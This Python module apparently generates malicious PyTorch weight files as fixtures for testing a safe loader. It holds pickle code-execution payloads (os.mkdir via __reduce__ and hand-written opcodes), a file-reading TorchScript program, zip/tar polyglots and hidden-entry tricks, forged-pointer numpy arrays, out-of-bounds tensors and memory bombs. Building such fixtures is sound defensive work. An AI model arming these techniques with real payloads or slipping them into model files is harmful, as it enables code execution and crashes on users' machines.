"""Files of weights that are made to run code, to hide a second file, or to reach beyond their bytes.

Each function writes one file; ``sentinel`` is a path that the code inside would create.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch


class Bomb:
    """Whoever unpickles it creates ``sentinel``."""

    def __init__(self, sentinel: Path):
        self.sentinel = sentinel

    def __reduce__(self):
        return os.mkdir, (str(self.sentinel),)


class Program(torch.nn.Module):
    """A TorchScript program that creates a file when it is loaded."""

    def __init__(self, path: str):
        super().__init__()
        self.path = path
        self.first = torch.zeros(1, dtype=torch.uint8)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x

    @torch.jit.export
    def __getstate__(self) -> str:
        return self.path

    @torch.jit.export
    def __setstate__(self, state: str) -> None:
        self.path = state
        self.training = False
        self.first = torch.from_file(state, True, 1, dtype=torch.uint8)


def torchscript(path: Path, sentinel: Path) -> None:
    torch.jit.save(torch.jit.script(Program(str(sentinel))), str(path))
    sentinel.unlink(missing_ok=True)  # scripting runs nothing, saving may


def entries_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def two_directories(path: Path, sentinel: Path) -> None:
    """Python's zipfile reads the directory before the end record, torch the one at the offset that the record tells."""
    torchscript(path, sentinel)
    content = path.read_bytes()
    end = content.rindex(b"PK\5\6")
    *_, size, start, _ = struct.unpack("<4s4H2IH", content[end : end + 22])
    directory = content[start : start + size]
    innocent = directory.replace(b"constants.pkl", b"c0nstants.pkl")
    tail = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, *[directory.count(b"PK\1\2")] * 2, size, start, 0)
    path.write_bytes(content[: start + size] + innocent + tail)


def data_pickle(path: Path, content: bytes, **storages: bytes) -> None:
    """A file as torch.save writes it, around a pickle of choice."""
    torch.save({}, path)
    entries = entries_of(path)
    root = next(iter(entries)).partition("/")[0]
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(f"{root}/data.pkl", content)
        for key, stored in storages.items():
            archive.writestr(f"{root}/data/{key.removeprefix('k')}", stored)
        archive.writestr(f"{root}/version", "3\n")


def hidden_pickle(path: Path, sentinel: Path) -> None:
    """A second data.pkl under the same name."""
    torch.save({"x": torch.zeros(2)}, path)
    entries = list(entries_of(path).items())
    (name, _), *_ = entries
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(name, pickle.dumps(Bomb(sentinel), protocol=2))
        for entry, content in entries:
            archive.writestr(entry, content)


def tar_bytes(sentinel: Path) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name in ("sys_info", "storages", "tensors", "pickle"):
            content = pickle.dumps(Bomb(sentinel), protocol=2)
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return stream.getvalue()


def tar_then_zip(path: Path, sentinel: Path) -> None:
    """A tar with a zip file behind it: a zip for those who look at the end, a tar for those who look at the start."""
    torch.save({"x": torch.zeros(2)}, path)
    path.write_bytes(tar_bytes(sentinel) + path.read_bytes())


def pickle_then_zip(path: Path, sentinel: Path) -> None:
    torch.save({"x": torch.zeros(2)}, path)
    path.write_bytes(pickle.dumps(Bomb(sentinel), protocol=2) + path.read_bytes())


def zip_then_pickle(path: Path, sentinel: Path) -> None:
    torch.save({"x": torch.zeros(2)}, path)
    path.write_bytes(path.read_bytes() + pickle.dumps(Bomb(sentinel), protocol=2))


def overlapping_entries(path: Path, sentinel: Path) -> None:
    """Two entries of the directory that share their bytes."""
    torch.save({"x": torch.zeros(64), "y": torch.ones(64)}, path)
    content = bytearray(path.read_bytes())
    end = content.rindex(b"PK\5\6")
    start = struct.unpack_from("<I", content, end + 16)[0]
    places = []
    while content[start : start + 4] == b"PK\1\2":
        n_name, n_extra = struct.unpack_from("<2H", content, start + 28)
        places.append((start + 42, bytes(content[start + 46 : start + 46 + n_name])))
        start += 46 + n_name + n_extra
    named = {name.partition(b"/")[2]: place for place, name in places}
    content[named[b"data/1"] : named[b"data/1"] + 4] = content[named[b"data/0"] : named[b"data/0"] + 4]
    path.write_bytes(content)


def compressed(path: Path, sentinel: Path) -> None:
    """A small file that unpacks to a large one."""
    torch.save({"x": torch.zeros(1 << 20)}, path)
    entries = entries_of(path)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)


# Pickles by hand. Values are put with the opcodes of protocol 2.
PROTO, STOP = b"\x80\2", b"."


def name(module: str, attribute: str) -> bytes:
    return b"c" + f"{module}\n{attribute}\n".encode()


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def number(value: int) -> bytes:
    content = value.to_bytes(9, "little", signed=True)
    return b"\x8a" + bytes([len(content)]) + content


def items(*pairs: tuple[str, bytes]) -> bytes:
    return b"}(" + b"".join(text(key) + value for key, value in pairs) + b"u"


def tensor(offset: int = 0, size: tuple = (4,), stride: tuple = (1,), elements: int = 4, kind="FloatStorage") -> bytes:
    storage = b"(" + text("storage") + name("torch", kind) + text("0") + text("cpu") + number(elements) + b"tQ"
    shape = b"(" + b"".join(map(number, size)) + b"t(" + b"".join(map(number, stride)) + b"t"
    hooks = name("collections", "OrderedDict") + b")R"
    return (
        name("torch._utils", "_rebuild_tensor_v2") + b"(" + storage + number(offset) + shape + b"\x89" + hooks + b"tR"
    )


DTYPE = name("numpy", "dtype") + b"(" + text("%s") + b"\x89\x88tR"


def array(dtype: str = "f4", shape: tuple = (4,), content: bytes = b"\0" * 16, state: bytes = b"") -> bytes:
    empty = name("numpy.core.multiarray", "_reconstruct") + b"(" + name("numpy", "ndarray") + b"(K\0t" + b"C\1btR"
    described = (
        name("numpy", "dtype")
        + b"("
        + text(dtype)
        + b"\x89\x88tR"
        + (state or b"(K\3" + text("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\0tb")
    )
    stored = b"B" + struct.pack("<I", len(content)) + content
    return empty + b"(K\1(" + b"".join(map(number, shape)) + b"t" + described + b"\x89" + stored + b"tb"


ADDRESS = struct.pack("<Q", 0x4141414141414141)
PICKLES: dict[str, bytes] = {
    "a tensor that starts behind its storage": tensor(offset=1 << 40),
    "a tensor that is longer than its storage": tensor(size=(1 << 40,)),
    "a tensor with a stride that leaves its storage": tensor(size=(4,), stride=(1 << 40,)),
    "a tensor with a negative offset": tensor(offset=-4),
    "a tensor with a negative stride": tensor(stride=(-1,)),
    "a tensor with a negative size": tensor(size=(-4,)),
    "a tensor whose size overflows": tensor(size=(1 << 62, 1 << 62, 1 << 62), stride=(0, 0, 0)),
    "a large tensor of one number": tensor(size=(1 << 34,), stride=(0,)),
    "a tensor of dimensions without strides": tensor(size=(2, 2), stride=(1,)),
    "a storage of more elements than bytes": tensor(elements=1 << 40),
    "a storage of a negative size": tensor(elements=-4),
    "a storage of doubles that were floats": tensor(kind="DoubleStorage"),
    "a quantised tensor": tensor().replace(b"_rebuild_tensor_v2", b"_rebuild_qtensor"),
    "attributes of torch's function": name("torch._utils", "_rebuild_tensor_v2") + items(("__code__", b"N")) + b"b",
    "attributes of torch's class": name("torch", "FloatStorage") + b"(N" + items(("dtype", text("x"))) + b"tb",
    "attributes of a tensor": tensor() + items(("data", b"N")) + b"b",
    "attributes of a dictionary's class": name("collections", "OrderedDict") + items(("__init__", b"N")) + b"b",
    "a method of a placeholder": name("x", "Y") + b")R" + items(("finish", b"N"), ("__class__", b"N")) + b"b)R",
    "an array of pointers": array("O8", (1,), ADDRESS),
    "an array of pointers in its state": array(
        "V8",
        (1,),
        ADDRESS,
        b"(K\3"
        + text("|")
        + b"N("
        + text("a")
        + b"t"
        + items(("a", b"(" + name("numpy", "dtype") + b"(" + text("O8") + b"\x89\x88tRK\0t"))
        + b"K\x08K\1K\x1btb",
    ),
    "an array of records": array("f4,O", (1,), ADDRESS),
    "an array that is longer than its bytes": array(shape=(1 << 40,)),
    "an array of a negative shape": array(shape=(-4,)),
    "an array whose shape overflows": array(shape=(1 << 62, 4)),
    "an array without state": array().rpartition(b"(K\1(")[0],
    "an array of its own bytes, as a view": name("numpy", "ndarray") + b"(K\4t" + text("f4") + b"\x86R",
    "a scalar of a pointer": name("numpy.core.multiarray", "scalar")
    + b"("
    + name("numpy", "dtype")
    + b"("
    + text("O8")
    + b"\x89\x88tRC\x08"
    + ADDRESS
    + b"tR",
    "an import by opcode": name("os", "mkdir") + text("ran") + b"\x85R",
    "an import from the stack": text("os") + text("mkdir") + b"\x93" + text("ran") + b"\x85R",
    "an import of a name with dots": text("torch") + text("hub.os.mkdir") + b"\x93" + text("ran") + b"\x85R",
    "an object of protocol 0": b"(ios\nmkdir\n",
    "an instance of protocol 1": b"(" + name("os", "mkdir") + text("ran") + b"o",
    "an extension of the interpreter": b"\x82\1",
    "a call of a call": name("torch._tensor", "_rebuild_from_type_v2")
    + b"("
    + name("os", "mkdir")
    + b"N"
    + text("ran")
    + b"\x85NtR",
    "the loader inside the loader": name("torch.storage", "_load_from_bytes")
    + b"B"
    + struct.pack("<I", 4)
    + b"\x80\2N."
    + b"\x85R",
    "a persistent name of protocol 0": b"Pstorage\n",
    "a memo of four thousand million places": b"N" + b"r" + struct.pack("<I", 0xFFFFFFFF),
    "a text of four thousand million letters": b"X" + struct.pack("<I", 0xFFFFFFFF),
    "bytes without end": b"\x96" + struct.pack("<Q", 1 << 62),
    "a number of two thousand million bytes": b"\x8b" + struct.pack("<i", 0x7FFFFFFF),
    "tuples in tuples as a key": b"}" + b")" + b"\x85" * 200_000 + b"Ns",
    "lists in lists": b"]" * 200_000 + b"a" * 199_999,
    "a list in itself": b"]q\0h\0a",
    "a module in itself": name("torch.nn", "Module")
    + b")R"
    + b"q\0"
    + items(("_modules", items(("a", b"h\0"))))
    + b"b",
    "more taken than put": b"000",
    "the end before a value": b"",
    "no end": b"N" * 10,
    "a dictionary of no pairs": name("collections", "OrderedDict") + b"(K\1tR",
    "a short text many times over": text("x" * 1000)
    + b"q\0"
    + b"0"
    + b"]("
    + (name("_codecs", "encode") + b"h\0\x85R") * 40_000
    + b"e",
}


def by_hand(steps: bytes) -> Callable[[Path, Path], None]:
    """A file of torch.save with this pickle under ``model``, which every object mapping looks at."""

    def write(path: Path, sentinel: Path) -> None:
        content = PROTO + b"}" + text("model") + steps + b"s" + STOP
        data_pickle(path, content.replace(text("ran"), text(str(sentinel))), k0=b"\0" * 16)

    return write


CONTAINERS = {
    "a TorchScript program": torchscript,
    "two directories": two_directories,
    "two entries of one name": hidden_pickle,
    "a tar, then a zip": tar_then_zip,
    "a pickle, then a zip": pickle_then_zip,
    "a zip, then a pickle": zip_then_pickle,
    "entries that overlap": overlapping_entries,
    "compressed entries": compressed,
}
ATTACKS = CONTAINERS | {title: by_hand(steps) for title, steps in PICKLES.items()}
